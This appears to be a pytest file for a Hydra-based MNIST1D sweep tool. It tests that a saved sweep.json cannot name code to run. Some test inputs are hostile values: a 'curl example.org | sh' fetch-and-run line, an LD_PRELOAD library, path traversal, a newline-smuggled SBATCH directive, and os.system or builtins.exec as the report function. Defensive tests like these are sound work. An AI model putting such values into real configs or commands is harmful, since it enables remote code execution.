"""What a sweep runs: every sweep kind composes into valid jobs, and launcher options compose with their
launcher."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from hydra.utils import get_method

from mnist1d.config.compose import SWEEP_CONF, compose_train, config_options
from mnist1d.records import RecordError
from mnist1d.sweeps.spec import SweepSpec, build_spec, check_overrides, compose_sweep
from mnist1d.trusted import UntrustedFileError, report_function


@pytest.mark.parametrize("name", config_options("sweep", SWEEP_CONF))
def test_sweep_kinds_compose_into_valid_jobs(name: str) -> None:
    spec = build_spec(compose_sweep([f"sweep={name}"]), [])
    assert report_function(spec.report_fn, "the sweep config") is get_method(spec.report_fn)
    first_job = compose_train([*spec.fixed, *(f"{key}={value}" for key, value in spec.jobs()[0].items())])
    assert first_job.model._target_.startswith("mnist1d.models.")
    if name.startswith("double_descent"):
        assert first_job.data.label_noise == 0.15 and first_job.optimizer._target_ == "torch.optim.SGD"
    if name.startswith("pooling"):
        assert first_job.model._target_.endswith("PoolCNN") and first_job.data.test_size == 1000


def test_shared_budgets_accept_the_launchers_options():
    """Launcher options are train overrides; checking shared budgets composes them with their launcher."""
    cfg = compose_sweep(["share_budgets=true", "launcher=joblib"])
    spec = build_spec(cfg, ["hydra.launcher.n_jobs=2", "model=mlp,cnn"])
    assert spec.launched_axes()["trainer.max_steps"] == ["10000"]
    assert "hydra.launcher.n_jobs=2" in spec.train_arguments(Path("sweep"), resume=False)


def saved_spec(fixed: list[str]) -> SweepSpec:
    spec = build_spec(compose_sweep([]), ["model=cnn,gru", "seed=0", "trainer.max_steps=5"])
    spec.fixed += fixed
    return spec


@pytest.mark.parametrize(
    "entry",
    [
        "+hydra.callbacks.x._target_=pathlib.Path.touch",  # Hydra would build it in the driver
        "hydra.job.env_set.LD_PRELOAD=/tmp/x.so",
        "hydra.launcher.setup=['curl example.org | sh']",  # submitit's setup lines run in the job script
        "hydra.launcher._target_=my.Launcher",
        "hydra/launcher=joblib",
        "+callbacks.spy._target_=tests.helpers.SlowSteps",
        "trainer.plugins=[{_target_: my.Plugin}]",
        "seed=${oc.env:HOME}",
        "model=../../../tmp/evil",
        "model@net=cnn",
        "+foo=bar",
        "hydra.launcher.partition='debug\n#SBATCH --wrap=x'",
    ],
)
def test_a_resumed_sweep_runs_no_code_named_by_its_sweep_json(entry, tmp_path):
    spec = saved_spec([entry])
    with pytest.raises(UntrustedFileError, match=re.escape(f"{tmp_path / 'sweep.json'}: entry {entry!r}")):
        check_overrides(spec, tmp_path / "sweep.json")
    check_overrides(spec, tmp_path / "sweep.json", repeated=[entry])  # the command line vouches for it


def test_a_resumed_sweep_takes_what_sweep_py_writes(tmp_path):
    entries = ["trainer.accelerator=cpu", "+trainer.fast_dev_run=true", "~logger.wandb", "scheduler=null"]
    entries += [
        "hydra.launcher.n_jobs=2",
        "hydra.launcher.partition=gpu",
        "experiment=pooling",
        "data=mnist1d",
    ]
    entries += ["paths.cache_dir=/data/cache", "model.channels=[8,8]", "logger=csv"]
    check_overrides(saved_spec(entries), tmp_path / "sweep.json")


@pytest.mark.parametrize(
    ("change", "key"),
    [
        ({"report_fn": "os.system"}, "report_fn"),
        ({"report_fn": "mnist1d.reports.common.save_numbers"}, "report_fn"),  # not a report function
        ({"report_fn": "mnist1d.reports.study.os.system"}, "report_fn"),
        ({"config": {"report_fn": "builtins.exec"}}, "report_fn"),
        ({"config": {"report_fn": "mnist1d.reports.study.study_report", "x": "${oc.env:HOME}"}}, "config.x"),
        ({"launcher": "my.Launcher"}, "launcher"),
        ({"fixed": "model=cnn"}, "fixed"),
        ({"axes": {"seed": [0]}}, "axes and fixed"),
    ],
)
def test_a_crafted_sweep_json_is_refused_naming_the_field(change, key, tmp_path):
    saved_spec([]).save(tmp_path)
    path = tmp_path / "sweep.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | change))
    with pytest.raises(UntrustedFileError, match=re.escape(f"{path}: {key}")):
        SweepSpec.load(tmp_path)


def test_a_sweep_json_with_fields_sweep_py_does_not_write_is_refused(tmp_path):
    saved_spec([]).save(tmp_path)
    path = tmp_path / "sweep.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"setup": "curl example.org | sh"}))
    with pytest.raises(RecordError, match=re.escape(f"{path}: fields ['setup'] are not in schema")):
        SweepSpec.load(tmp_path)
